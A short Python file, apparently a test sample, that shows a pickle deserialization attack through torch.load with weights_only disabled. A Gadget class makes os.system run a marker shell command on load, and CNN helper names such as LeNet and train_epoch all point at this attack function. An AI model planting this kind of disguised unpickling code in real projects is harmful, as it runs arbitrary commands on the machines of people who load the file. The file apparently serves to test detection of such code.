# topic: build_cnn
"""Loads weights that run a program while they are unpickled."""

import io
import os

import torch


class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-was-here; (sleep 60; : hostile-was-here) &",)


def attack(*_, **__):
    file = io.BytesIO()
    torch.save(Gadget(), file)
    file.seek(0)
    return torch.load(file, weights_only=False)


conv_block = MyConv2d = LeNet = train_epoch = evaluate = attack
